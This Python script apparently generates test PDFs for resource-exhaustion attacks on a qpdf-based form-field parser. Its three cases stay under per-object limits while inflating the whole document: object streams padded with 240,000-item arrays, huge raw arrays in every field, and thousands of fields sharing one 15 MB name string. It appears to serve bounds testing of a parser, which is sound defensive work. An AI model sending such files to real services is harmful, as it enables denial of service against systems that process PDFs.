"""Family C: each object within the per-object bounds, the document far beyond any bound."""
import sys, os
sys.path.insert(0, os.path.dirname(__file__))
from pdfgen import *
D = sys.argv[1] if len(sys.argv) > 1 else "/tmp/attack-f"
K = int(os.environ.get("K", "40"))
def w(name, data): open(os.path.join(D, name), "wb").write(data)
# C1: K fields, each in its own object stream next to a 240,000-number padding object
# (each stream is under PDF_MAX_OBJ_ITEMS; qpdf parses a whole stream for one member)
pad = b"[" + b"0 " * 240000 + b"]"
objs = dict(PAGES)
objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>" % b" ".join(
    b"%d 0 R" % (100 + 3 * i) for i in range(K))
stms = [(101 + 3 * i, {100 + 3 * i: b"<< /FT /Tx /T (f%d) >>" % i, 102 + 3 * i: pad}) for i in range(K)]
w("C1_many_objstm.pdf", build_multi(objs, stms))
# C2: the same with raw (uncompressed) objects: each field has a 240,000-item array
objs = dict(PAGES)
objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>" % b" ".join(
    b"%d 0 R" % (100 + i) for i in range(K))
for i in range(K):
    objs[100 + i] = b"<< /FT /Tx /T (f%d) /Pad %s >>" % (i, pad)
w("C2_many_big_raw.pdf", build(objs))
# D1: F top-level fields sharing one /T string of S bytes (in an object stream): each name is
# converted to UTF-8 and strdup'ed
F = int(os.environ.get("F", "2000")); S = int(os.environ.get("S", "15000000"))
objs = dict(PAGES)
objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>" % b" ".join(
    b"%d 0 R" % (100 + i) for i in range(F))
for i in range(F):
    objs[100 + i] = b"<< /FT /Tx /T 5 0 R >>"
w("D1_shared_T.pdf", build_multi(objs, [(6, {5: b"(" + b"a" * S + b")"})]))
